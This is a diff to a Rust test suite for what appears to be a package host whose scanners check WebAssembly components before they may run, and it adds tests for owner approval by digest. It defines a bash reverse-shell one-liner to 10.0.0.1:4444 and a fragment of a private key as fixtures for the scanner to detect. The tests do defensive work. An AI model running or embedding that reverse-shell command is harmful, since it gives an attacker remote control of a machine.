@@ -1,8 +1,9 @@
 //! Scanners: whatever comes in is shown to them first, and what they find decides.
 
 use crate::house::{House, built, lay_out};
+use loket::refresh::Look;
 use loket::scan::alone::scan;
-use loket_gateways::desk::Desk as _;
+use loket_gateways::desk::{DecisionRequest, Desk as _};
 use loket_gateways::scan::{ScanReport, ScanRequest};
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
@@ -12,13 +13,20 @@ use std::time::{Duration, Instant};
 const KEY: &str =
     "-----BEGIN PRIVATE KEY-----\\0aMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKjMzEfYyji\\0a";
 
+/// A way in for somebody else, about which scanners ask.
+const SCRIPT: &str = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
+
 /// A component that answers `run`, with this in its data.
 fn tool(data: &str) -> Vec<u8> {
-    component(&format!(
-        "(component (core module $m (memory 1) (data (i32.const 8) \"{data}\") (func (export \"run\") (result i32) (i32.const 7)))
-        (core instance $i (instantiate $m)) (func $run (result u32) (canon lift (core func $i \"run\")))
-        (instance $acts (export \"run\" (func $run))) (export \"acme:tool/acts@1.0.0\" (instance $acts)))"
-    ))
+    component(&format!("(component {})", acts(data)))
+}
+
+fn acts(data: &str) -> String {
+    format!(
+        "(core module $a (memory 1) (data (i32.const 8) \"{data}\") (func (export \"run\") (result i32) (i32.const 7)))
+        (core instance $b (instantiate $a)) (func $run (result u32) (canon lift (core func $b \"run\")))
+        (instance $acts (export \"run\" (func $run))) (export \"acme:tool/acts@1.0.0\" (instance $acts))"
+    )
 }
 
 /// A component that says it is a scanner, and does this when it is asked.
@@ -26,7 +34,7 @@ fn scanner(import: &str, body: &str) -> Vec<u8> {
     component(&format!(
         "(component {import} (core module $m (func (export \"inspect\") (result i32) {body}))
         (core instance $i (instantiate $m)) (func $inspect (result u32) (canon lift (core func $i \"inspect\")))
-        (instance $acts (export \"inspect\" (func $inspect))) (export \"loket:roles/inspector@0.1.0\" (instance $acts)))"
+        (instance $scans (export \"inspect\" (func $inspect))) (export \"loket:roles/inspector@0.1.0\" (instance $scans)))"
     ))
 }
 
@@ -86,16 +94,41 @@ async fn the_owners_policy_decides_what_follows() {
     let blocked = tool(KEY);
     assert_eq!(state("[scan]\ncritical = \"inform\"", "acme:tool", &blocked).await, "ready");
     // High asks, and what the owner accepted by its digest passes.
-    let asking = tool("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+    let asking = tool(SCRIPT);
     let told = state("", "acme:tool", &asking).await;
-    assert!(
-        told.contains("structure/script") && told.contains(&format!("accept = [\"{}\"]", digest(&asking))),
-        "{told}"
-    );
+    assert!(told.contains("structure/script") && told.contains("loket approve acme:tool@1.0.0"), "{told}");
     let accepted = format!("[scan]\naccept = [\"{}\"]", digest(&asking));
     assert_eq!(state(&accepted, "acme:tool", &asking).await, "ready");
     let accepted = format!("[scan]\naccept = [\"{}\"]", digest(&blocked));
     assert!(state(&accepted, "acme:tool", &blocked).await.contains("secrets/private-key"), "accepting opens no block");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_scanners_ask_about_waits_until_the_owner_approves_these_very_bytes() {
+    let house = House::open(home("", &[("acme/tool", &tool(SCRIPT))])).await;
+    let runs = async |house: &House| house.call("acme:tool/acts", "run", serde_json::json!([])).await.is_ok();
+    assert!(house.state("acme:tool").await.contains("waits for you") && !runs(&house).await);
+    let approve = |package: &str| DecisionRequest { package: package.into(), digest: None };
+    let decided = house.host.approve(approve("acme:tool@1.0.0")).await.expect("it waits");
+    assert!(decided.state == "ready" && runs(&house).await, "{decided:?}");
+    // That is so after a start, too; and other bytes are asked about anew, while the old ones serve.
+    let house = house.restart().await;
+    assert!(house.state("acme:tool").await == "ready" && runs(&house).await);
+    put(house.folder.path(), "acme/tool", "1.0.0", &tool(&format!("{SCRIPT} again")));
+    house.host.refresh(&Look::default());
+    assert!(house.state("acme:tool").await.contains("waits for you") && runs(&house).await);
+    // What blocks does not wait: there is nothing to approve.
+    put(house.folder.path(), "acme/other", "1.0.0", &tool(KEY));
+    house.host.refresh(&Look::default());
+    let refused = house.host.approve(approve("acme:other@1.0.0")).await.expect_err("it does not wait");
+    assert_eq!(refused.code, "not-found", "{refused:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_scans_and_offers_more_is_scanned_itself() {
+    let told = state("", "acme:both", &scanner(&acts(KEY), "i32.const 0")).await;
+    assert!(told.contains("secrets/private-key"), "{told}");
+    assert!(!state("", "acme:scans", &scanner("", "i32.const 0")).await.contains("scan"), "it is shown to nobody");
 }
 
 #[tokio::test(flavor = "multi_thread")]
